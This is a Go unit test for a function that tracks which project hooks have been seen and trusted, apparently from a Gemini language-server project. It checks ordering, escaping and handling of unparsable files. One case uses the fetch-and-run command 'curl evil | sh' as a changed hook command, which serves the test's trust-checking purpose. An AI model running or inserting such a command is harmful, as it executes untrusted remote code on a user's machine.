package hooks

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/gemini-ls/gemini-ls/internal/settings"
)

// The hooks announced are listed as Gemini CLI 0.61 lists them, by name
// and command, beside the other projects' lists; a hook is new until
// listed, and again once its command changes; a file that does not parse
// is left as it is.
func TestNoteProjectHooks(t *testing.T) {
	ctx := context.Background()
	path := filepath.Join(t.TempDir(), ".gemini", "trusted_hooks.json")
	hooks := func(command string) settings.Hooks {
		return settings.Hooks{
			"BeforeTool": {{Hooks: []settings.HookCommand{{Type: "command", Name: "guard", Command: command}, {Type: "command", Command: "./fmt.sh"}}}},
			"SessionStart": {
				{Hooks: []settings.HookCommand{{Type: "command", Name: "guard", Command: "other"}}},
				{Hooks: []settings.HookCommand{{Type: "runtime", Name: "code"}}},
			},
		}
	}
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(`{"/zzz": ["x:y\u2028"], "/odd": 3}`), 0o600); err != nil {
		t.Fatal(err)
	}
	unseen, err := NoteProjectHooks(ctx, path, "/p", hooks("./guard.sh"))
	if err != nil || !slices.Equal(unseen, []string{"guard", "./fmt.sh"}) {
		t.Fatalf("first: %q, %v; want each hook's name (else command) once", unseen, err)
	}
	data, _ := os.ReadFile(path)
	// In the file's order, escaped as JSON.stringify escapes (U+2028 as
	// it is).
	want := "{\n  \"/zzz\": [\n    \"x:y\u2028\"\n  ],\n  \"/odd\": 3,\n  \"/p\": [\n    \"guard:./guard.sh\",\n    \":./fmt.sh\",\n    \"guard:other\"\n  ]\n}"
	if string(data) != want {
		t.Errorf("the file holds\n%s\nwant\n%s", data, want)
	}
	if unseen, err := NoteProjectHooks(ctx, path, "/p", hooks("./guard.sh")); err != nil || len(unseen) != 0 {
		t.Errorf("again: %q, %v; want none new", unseen, err)
	}
	if unseen, err := NoteProjectHooks(ctx, path, "/p", hooks("curl evil | sh")); err != nil || !slices.Equal(unseen, []string{"guard"}) {
		t.Errorf("a changed command: %q, %v; want it new", unseen, err)
	}
	if unseen, err := NoteProjectHooks(ctx, path, "/q", nil); err != nil || unseen != nil {
		t.Errorf("no hooks: %q, %v", unseen, err)
	}

	if err := os.WriteFile(path, []byte("{not json"), 0o600); err != nil {
		t.Fatal(err)
	}
	unseen, err = NoteProjectHooks(ctx, path, "/p", hooks("./guard.sh"))
	if err == nil || !strings.Contains(err.Error(), "does not parse, and is left alone") || len(unseen) != 2 {
		t.Errorf("a file that does not parse: %q, %v; want every hook new and the error", unseen, err)
	}
	if data, _ := os.ReadFile(path); string(data) != "{not json" {
		t.Errorf("the file that did not parse became %q", data)
	}
}
